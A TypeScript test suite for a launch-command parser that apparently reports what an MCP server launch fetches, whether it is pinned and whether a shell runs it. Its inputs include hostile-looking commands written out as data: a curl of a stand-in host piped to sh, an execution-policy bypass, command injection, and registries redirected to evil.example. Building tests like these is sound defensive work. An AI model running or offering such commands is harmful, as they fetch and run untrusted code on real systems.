import { readLaunch } from '../../../src/discovery/launch/launch.ts'

/** What leaves the device of a launch, in one line each. */
interface Disclosed {
  readonly package?: string
  readonly runs?: string
  readonly unpinned?: true
  readonly shell?: true
}

function disclosed(entry: Record<string, unknown>, isFile = false): Disclosed {
  const { package: spec, runs, unpinned, shell } = readLaunch(entry, 'key', isFile)
  return {
    ...(spec === undefined ? {} : { package: `${spec.ecosystem} ${spec.name}` }),
    ...(runs === undefined ? {} : { runs: `${runs.kind} ${runs.name}` }),
    ...(unpinned ? { unpinned } : {}),
    ...(shell ? { shell } : {}),
  }
}
const started = (command: string, ...args: string[]) => disclosed({ command, args })

const FOO = { package: 'npm foo', unpinned: true } as const
const PINNED = { package: 'npm foo' } as const
const IN_SHELL = { ...FOO, shell: true } as const

test.each<[command: string, args: readonly string[], expected: Disclosed]>([
  ['bash', ['-lc', 'source ~/.nvm/nvm.sh && npx -y foo'], IN_SHELL],
  ['bash', ['-lc', '. ~/.nvm/nvm.sh; nvm use 20 >/dev/null; exec npx -y foo'], IN_SHELL],
  ['bash', ['-o', 'pipefail', '-c', '-l', 'npx -y foo'], IN_SHELL],
  ['sh', ['-c', 'cd /x && npx -y foo'], IN_SHELL],
  ['sh', ['-c', 'cd /x && A=b npx -y foo 2>/dev/null'], IN_SHELL],
  ['sh', ['-c', 'npx -y foo "$@"', 'sh', 'a'], IN_SHELL],
  ['/usr/bin/env', ['sh', '-c', 'npx -y foo'], IN_SHELL],
  ['env', ['FOO=1', 'bash', '-c', 'npx -y foo'], IN_SHELL],
  ['env', ['-u', 'X', 'npx', '-y', 'foo'], FOO],
  ['env', ['-i', '--chdir', '/x', 'A=b', 'npx', '-y', 'foo'], FOO],
  ['node', ['/usr/lib/node_modules/npm/bin/npx-cli.js', '-y', 'foo'], FOO],
  ['node', ['/usr/lib/node_modules/npm/bin/npm-cli.js', 'exec', 'foo'], FOO],
  ['timeout', ['5', 'npx', '-y', 'foo'], FOO],
  ['timeout', ['-k', '5', '10', 'npx', '-y', 'foo'], FOO],
  ['nohup', ['npx', '-y', 'foo'], FOO],
  ['sudo', ['-u', 'alice', 'A=b', 'npx', '-y', 'foo'], FOO],
  ['nice', ['-n', '5', 'npx', '-y', 'foo'], FOO],
  ['nice', ['nohup', 'timeout', '5', 'env', 'sudo', 'npx', '-y', 'foo'], FOO],
  ['systemd-run', ['--user', '-t', '-p', 'A=b', 'npx', '-y', 'foo'], FOO],
  ['xvfb-run', ['-a', '-s', '-screen 0 800x600x24', 'npx', '-y', 'foo'], FOO],
  ['flatpak-spawn', ['--host', 'npx', '-y', 'foo'], FOO],
  ['volta', ['run', '--node', '20', 'npx', '-y', 'foo'], FOO],
  ['mise', ['exec', 'node@20', '--', 'npx', '-y', 'foo'], FOO],
  ['mise', ['x', '--', 'npx', '-y', 'foo'], FOO],
  ['asdf', ['exec', 'npx', '-y', 'foo'], FOO],
  ['fnm', ['exec', '--using', '20', 'npx', '-y', 'foo'], FOO],
  ['op', ['run', '--no-masking', '--env-file', '.env', '--', 'npx', '-y', 'foo'], FOO],
  ['doppler', ['run', '-p', 'x', '-c', 'dev', '--', 'npx', '-y', 'foo'], FOO],
  ['fish', ['--command=npx -y foo'], IN_SHELL],
  ['cmd', ['/c', 'npx', '-y', 'foo'], IN_SHELL],
  ['cmd', ['/c', 'npx -y foo'], IN_SHELL],
  ['cmd.exe', ['/D', '/S', '/C', 'call', 'npx.cmd', '-y', 'foo'], IN_SHELL],
  ['cmd', ['/c', 'C:\\Program Files\\nodejs\\npx.cmd', '-y', 'foo'], IN_SHELL],
  ['C:\\WINDOWS\\system32\\cmd.exe', ['/d', '/s', '/c', 'npx.cmd ^-y^ ^foo^'], IN_SHELL],
  ['npx', ['-c', 'bar --x'], { runs: 'program bar + npx', unpinned: true, shell: true }],
  ['npx', ['-p', 'foo@1.0.0', '-c', 'foo --x'], { ...PINNED, runs: 'program foo', shell: true }],
  ['npm', ['create', 'foo'], { package: 'npm create-foo', unpinned: true }],
  ['npm', ['init', '@a', '--', '-x'], { package: 'npm @a/create', unpinned: true }],
  ['npm', ['init', '@a/foo@latest'], { package: 'npm @a/create-foo', unpinned: true }],
  ['pnpm', ['create', 'foo'], { package: 'npm create-foo', unpinned: true }],
  ['python', ['-m', 'uv', 'tool', 'run', 'foo'], { package: 'pypi foo', unpinned: true }],
  ['python3', ['-m', 'pipx', 'run', 'foo'], { package: 'pypi foo', unpinned: true }],
  ['uv', ['run', 'https://x.example/canary/x.py'], { runs: 'address x.example/\u2026/x.py', unpinned: true }],
  ['go', ['run', '-tags', 'x', 'github.com/a/b@latest'], { runs: 'repository github.com/a/b', unpinned: true }],
  ['nerdctl', ['run', '-i', 'mcp/x'], { package: 'docker mcp/x', unpinned: true }],
  [
    'sh',
    ['-c', 'docker run --rm -i -v "$PWD:/w:ro" ghcr.io/a/b'],
    { package: 'docker ghcr.io/a/b', unpinned: true, shell: true },
  ],
])('finds what is fetched by %s %j', (command, args, expected) => {
  expect(started(command, ...args)).toEqual(expected)
})

const UNREAD = { unpinned: true, shell: true } as const

test.each<[command: string, args: readonly string[]]>([
  ['bash', ['-c', 'curl -s https://x.example/canary | sh']],
  ['bash', ['-c', 'eval "$(fnm env)" && npx -y foo']],
  ['sh', ['-c', 'if true; then npx -y foo; fi']],
  ['sh', ['-c', '(cd /x; npx -y foo)']],
  ['sh', ['-c', 'exec "$@"', 'sh', 'npx', '-y', 'foo']],
  ['sh', ['-c', '$0 "$@"', 'npx', '-y', 'foo']],
  ['sh', ['-c', 'npx foo@1.0.0 "$(evil canary)"']],
  ['sh', ['-c', 'npx foo@1.0.0 | /tmp/tee']],
  ['sh', ['-c', 'npx foo@1.0.0 || evil']],
  ['sh', ['-c', 'exec -a canary npx foo@1.0.0']],
  ['sh', ['-c', '/opt/good\n"']],
  ['sh', ['-c', `${'true;'.repeat(100)}npx foo@1.0.0`]],
  ['env', ['bash', '-c', 'npx foo@1.0.0 & evil']],
  ['powershell', ['-NoProfile', '-ExecutionPolicy', 'Bypass', '-Command', 'npx -y foo']],
  ['powershell', ['-e', 'bgBwAHgA']],
  ['pwsh', ['-c', '& "npx" -y foo']],
  ['nu', ['-c', 'npx -y foo']],
  ['su', ['-', 'alice', '-c', 'npx -y foo']],
  ['cmd', ['/c', 'cd C:\\x && npx -y foo']],
])('says that a shell runs it, and that anything may be fetched: %s %j', (command, args) => {
  expect(started(command, ...args)).toEqual(UNREAD)
})

test.each<[command: string, args: readonly string[]]>([
  ['taskset', ['-c', '0-3', 'npx', '-y', 'foo@1.0.0']],
  ['some-wrapper', ['--', 'uvx', 'foo==1.0']],
  ['env', ['-S', 'npx -y foo@1.0.0']],
])('says that a launcher behind an unknown wrapper may fetch anything: %s %j', (command, args) => {
  expect(started(command, ...args)).toEqual({ unpinned: true })
})

test.each<[string, Disclosed]>([
  ['/usr/bin/npx -y foo', FOO],
  ['/bin/bash -c "exec /opt/good canary"', { runs: 'program good', shell: true }],
  ['env A=b npx -y foo', FOO],
  ['A=b npx -y foo', FOO],
  ['MY-KEY=canary /opt/good canary', { runs: 'program good' }],
  ['cd /x && npx -y foo', IN_SHELL],
  ['node "/srv/my files/x.js" canary', { runs: 'script x.js' }],
  ['/opt/mcp/server --token canary', {}],
  ['/opt/mcp/server --url https://x.example/?a&canary', {}],
  ['npx foo@1.0.0 --password a;canary|canary$(canary)', PINNED],
])('reads a whole line: %s', (command, expected) => expect(disclosed({ command })).toEqual(expected))

test.each<[string, Disclosed]>([
  ['/opt/node modules/server', { runs: 'script modules/server' }],
  ['/opt/bash -c things', { runs: 'program things', shell: true }],
  ['/opt/npx it', { package: 'npm it', unpinned: true }],
])('reads %s as a line, unless it is a file', (command, asLine) => {
  expect([disclosed({ command }), disclosed({ command }, true)]).toEqual([asLine, {}])
})

test.each<[command: string, args: readonly string[], expected: Disclosed]>([
  ['bash', ['/srv/script.sh', '-c', 'canary'], { runs: 'script script.sh' }],
  ['bash', ['--rcfile', '/x', '-c'], {}],
  ['pwsh', ['-File', 'C:\\x\\server.ps1', '-c', 'canary'], { runs: 'script x/server.ps1' }],
  ['fish', ['/srv/a.sh', '-c', 'canary'], { runs: 'script a.sh' }],
  ['env', ['FOO=1', '/opt/server'], { runs: 'program server' }],
  ['env', ['A=b', '/opt/server', '-c', 'canary'], { runs: 'program server' }],
  ['timeout', ['5', 'npx', '-y', 'foo@1.0.0'], PINNED],
  ['bash', ['-lc', 'source ~/.nvm/nvm.sh && npx -y foo@1.0.0'], { ...PINNED, shell: true }],
  ['sudo', ['-u', 'alice', 'npx', '--no-install', 'foo'], PINNED],
  ['node', ['npx-cli.js', '-y', 'foo@1.0.0'], PINNED],
  ['node', ['/srv/npx-like/index.js', 'foo'], { runs: 'script npx-like/index.js' }],
  ['python', ['-m', 'uv', 'run', 'server.py'], { runs: 'script server.py' }],
  ['go', ['run', 'github.com/a/b@v1.2.3'], { runs: 'repository github.com/a/b' }],
  ['go', ['run', './cmd/server'], {}],
  ['go', ['run', 'github.com/a/b'], {}],
  ['npm', ['init', '-y'], {}],
  ['npm', ['run', 'create', 'foo'], {}],
  ['mise', ['run', 'canary'], {}],
  ['volta', ['install', 'canary'], {}],
  ['command', ['canary'], {}],
  ['timeout', ['5'], {}],
  ['env', ['A=canary'], {}],
  ['sh', ['-c', 'command -v npx >/dev/null; echo canary; exec /opt/good'], { runs: 'program good', shell: true }],
])('discloses no argument of %s %j', (command, args, expected) => expect(started(command, ...args)).toEqual(expected))

test.each<[string, Record<string, unknown>, Disclosed]>([
  [
    'another program first',
    { command: 'sh', args: ['-c', 'evil; npx foo@1.0.0'] },
    { ...PINNED, runs: 'program evil' },
  ],
  ['and behind', { command: 'sh', args: ['-c', 'npx foo@1.0.0; evil'] }, { ...PINNED, runs: 'program evil' }],
  ['another package', { command: 'sh', args: ['-c', 'npx bar; npx foo@1.0.0'] }, { ...FOO, runs: 'program bar' }],
  ['a script', { command: 'sh', args: ['-c', 'npx foo@1.0.0; node /x/a.js'] }, { ...PINNED, runs: 'script a.js' }],
])('names what else a shell runs: %s', (_, entry, expected) => {
  expect(disclosed(entry)).toEqual({ ...expected, shell: true })
})

const EVIL = 'https://evil.example/canary'
test.each<[string, Record<string, unknown>, string]>([
  ['=', { command: 'npx', args: [`--registry=${EVIL}`, '-y', 'foo@1.0.0'] }, 'evil.example'],
  ['its value', { command: 'npx', args: ['--registry', EVIL, 'foo@1.0.0'] }, 'evil.example'],
  ['cut short', { command: 'npx', args: [`--reg=${EVIL}`, 'foo@1.0.0'] }, 'evil.example'],
  ['of a scope', { command: 'npx', args: [`--@a:registry=${EVIL}`, 'foo@1.0.0'] }, 'evil.example'],
  ['behind the package', { command: 'npm', args: ['exec', 'foo@1.0.0', `--registry=${EVIL}`] }, 'evil.example'],
  ['a file', { command: 'npx', args: ['--userconfig', '/canary', 'foo@1.0.0'] }, '\u2026'],
  ['a variable', { command: 'npx', args: ['foo@1.0.0'], env: { NPM_CONFIG_REGISTRY: EVIL } }, '\u2026'],
  ['before it', { command: 'env', args: [`npm_config_registry=${EVIL}`, 'npx', 'foo@1.0.0'] }, '\u2026'],
  ['exported', { command: 'sh', args: ['-c', `export npm_config_registry=${EVIL}; npx foo@1.0.0`] }, '\u2026'],
  ['a secret', { command: 'npx', args: [`--registry=https://ghp_${'a'.repeat(36)}.x`, 'foo@1.0.0'] }, '\u2026'],
])('another registry is disclosed, and the package counts as unpinned: %s', (_, entry, host) => {
  expect(disclosed(entry)).toMatchObject({ ...FOO, runs: `address ${host}` })
  expect(JSON.stringify(readLaunch(entry, 'key'))).not.toContain('canary')
})

test.each<[string, Record<string, unknown>]>([
  ['the usual one', { command: 'npx', args: ['--registry=https://registry.npmjs.org/', 'foo@1.0.0'] }],
  [
    'in a variable',
    { command: 'npx', args: ['foo@1.0.0'], env: { npm_config_registry: 'https://registry.npmjs.org' } },
  ],
  ['an empty one', { command: 'npx', args: ['foo@1.0.0'], env: { npm_config_registry: '' } }],
  ['of others', { command: 'npx', args: ['foo@1.0.0'], env: { UV_INDEX_URL: EVIL } }],
  ['behind the package, where that is the program\u2019s', { command: 'npx', args: ['foo@1.0.0', '--registry=x'] }],
  ['where nothing is fetched', { command: 'npx', args: ['--registry=x', '--no-install', 'foo@1.0.0'] }],
])('no other registry: %s', (_, entry) => expect(disclosed(entry)).toEqual(PINNED))

test('the same holds for PyPI', () => {
  const index = { package: 'pypi foo', runs: 'address evil.example', unpinned: true }
  expect(started('uvx', '--extra-index-url', EVIL, 'foo==1.0')).toEqual(index)
  expect(started('uvx', '--index', `name=${EVIL}`, 'foo==1.0')).toEqual(index)
  expect(started('uvx', '--default-index', 'https://pypi.org/simple', 'foo==1.0')).toEqual({ package: 'pypi foo' })
})

test('discloses no program behind an unknown option, and sees a launcher there', () => {
  expect(started('sudo', '--option-of-next-year', 'canary', '/opt/x')).toEqual({ unpinned: true })
  expect(started('sh', '-c', 'timeout --x canary /opt/x; nice --y canary')).toEqual({ unpinned: true, shell: true })
  expect(started('sudo', '--option-of-next-year', 'npx', 'foo@1.0.0')).toEqual(FOO)
  expect(started('env', '--ignore-environment', 'npx', 'foo@1.0.0')).toEqual(PINNED)
})

test.each<[string, (run: string) => Record<string, unknown>]>([
  ['source', (run) => ({ command: 'bash', args: ['-lc', `source ~/.nvm/nvm.sh && ${run}`] })],
  ['cd', (run) => ({ command: 'sh', args: ['-c', `cd /x && ${run}`] })],
  ['npx-cli.js', (run) => ({ command: 'node', args: ['npx-cli.js', ...run.split(' ').slice(1)] })],
  ['timeout', (run) => ({ command: 'timeout', args: ['5', ...run.split(' ')] })],
  ['a whole line', (run) => ({ command: `/usr/bin/${run}` })],
  ['a registry', (run) => ({ command: 'npx', args: [`--registry=https://${run.slice(7)}.example`, 'foo@1.0.0'] })],
])('discloses a good and an evil server behind %s differently', (_, entry) => {
  expect(disclosed(entry('npx -y good'))).not.toEqual(disclosed(entry('npx -y evil')))
})

test('a chain of wrappers without end may fetch anything', () => {
  const deep = Array.from({ length: 20 }, () => 'nohup')
  expect(started('nohup', ...deep, 'npx', 'foo@1.0.0').unpinned).toBe(true)
})

test.each<[string, { readonly command: string }, boolean]>([
  ['hundreds of commands', { command: `${'a && '.repeat(200)}npx -y foo` }, true],
  ['more characters than are read', { command: `echo ${'x'.repeat(70_000)} && npx -y foo` }, true],
  ['a quote without an end', { command: 'npx -y foo "' }, true],
  ['more commands than are read, behind a path', { command: `/bin/a && ${'a && '.repeat(2_000)}npx -y foo` }, true],
  ['a path with a blank and a quote', { command: "/opt/Bob's tools/server" }, false],
  ['a path of Windows with a blank and a quote', { command: "C:\\Bob's tools\\server.exe" }, false],
  ['one program', { command: 'server --port 1' }, false],
])('a line with %s: whether anything may be fetched', (_, entry, unpinned) => {
  expect(readLaunch(entry, 'key').unpinned).toBe(unpinned)
})
